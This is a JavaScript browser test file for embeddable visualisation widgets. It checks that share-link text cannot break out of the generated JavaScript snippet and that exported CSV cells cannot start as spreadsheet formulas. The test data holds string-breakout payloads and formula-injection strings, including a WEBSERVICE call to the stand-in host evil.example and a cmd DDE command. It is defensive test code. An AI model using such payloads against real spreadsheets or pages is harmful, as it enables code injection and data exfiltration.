/** What a link that a stranger wrote puts into the code that a reader copies, and the tables that he saves. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { onlyInChromium, savedBytes } from '../support/browser.mjs';
import { openSite } from '../support/site.mjs';
import { cells, runsAsFormula } from './tables.mjs';

const site = await openSite({ viewport: { width: 900, height: 800 } });

/** @param {Record<string, string>} settings */
async function open(settings) {
  const hash = new URLSearchParams({ ...settings, controls: '' });
  const { page } = await site.open(`/embed.html#${hash}`);
  await page.waitForFunction(
    (tag) => /** @type {any} */ (document.querySelector(tag))?.picture,
    settings.element,
  );
  return { page, element: page.locator(settings.element) };
}

const CODE = [
  "1'+(globalThis.pwned=1)+'2",
  "\\'+(globalThis.pwned=1)+'",
  "'});globalThis.pwned=1;//",
  "1\u2028'\u2029+'",
];

test('a link: its text is a text in the JavaScript that is copied', onlyInChromium(), async () => {
  const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;
  for (const text of CODE) {
    const { page, element } = await open({ element: 'pe-heatmap', encoding: 'abacus', text });
    await element.getByText('Code', { exact: true }).click();
    await element.getByRole('button', { name: 'JavaScript', exact: true }).click();
    const shown = element.locator('.code pre[aria-label="Program, JavaScript"]');
    const code = String(await shown.textContent());
    /** @type {any[]} */
    const given = [];
    const encode = (/** @type {any[]} */ ...what) => {
      given.push(what[1].text);
      return { rows: 0, cols: 0, data: [] };
    };
    const body = code.slice(code.indexOf('\n'));
    await new AsyncFunction('loadCore', body)(async () => ({ encode }));
    assert.deepEqual(given, [text]);
    assert.ok(!('pwned' in globalThis));
    await page.close();
  }
});

/** A word each: a blank ends it. */
const FORMULA = '=WEBSERVICE("http://evil.example") +1+1 -2+3 @SUM(1) \t=x a;=cmd|\'/C\'!A0;b';
/** @type {Record<string, string>[]} */
const FIGURES = [
  { element: 'pe-rotation', show: 'words', tokens: FORMULA },
  { element: 'pe-words', words: FORMULA },
  { element: 'pe-heatmap', tokens: FORMULA },
  { element: 'pe-order', sentence: FORMULA },
];

test('a link: no cell of a saved table begins as a formula', onlyInChromium(), async () => {
  let words = 0;
  for (const settings of FIGURES) {
    const { page, element } = await open(settings);
    await element.getByText('Share and embed').click();
    const downloading = page.waitForEvent('download');
    await element.getByRole('button', { name: 'CSV', exact: true }).click();
    const text = String(await savedBytes(await downloading));
    words += Number(/WEBSERVICE|SUM|cmd/.test(text));
    for (const separator of [',', ';', '\t']) {
      assert.deepEqual(cells(text, separator).flat().filter(runsAsFormula), [], settings.element);
    }
    await page.close();
  }
  assert.ok(words >= 3, `the words are in ${words} tables`);
});
